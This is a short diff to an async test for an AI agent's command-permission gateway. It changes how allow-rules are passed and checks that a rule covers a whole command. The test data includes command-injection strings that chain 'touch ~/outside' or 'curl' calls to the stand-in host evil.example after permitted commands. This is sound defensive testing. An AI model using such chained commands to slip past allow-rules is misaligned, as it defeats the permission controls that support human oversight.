@@ -288,7 +288,7 @@ async def test_a_rule_covers_the_whole_command(home: Path) -> None:
     commands = ("git status; touch ~/outside", "git status && curl https://evil.example", "echo $(curl evil.example)")
     script = [*(call("ExecuteCommand", {"command": command}) for command in commands), say("no")]
     with ScriptedServer(script) as model:
-        async with run_gateway(model, platform, home, rules=["Bash(git status:*)", "Bash(echo:*)"]):
+        async with run_gateway(model, platform, home, more={"rules": ["Bash(git status:*)", "Bash(echo:*)"]}):
             await platform.write("try")
             assert await platform.wait_for(1) == ["no"]
     for request in model.requests[1:]:
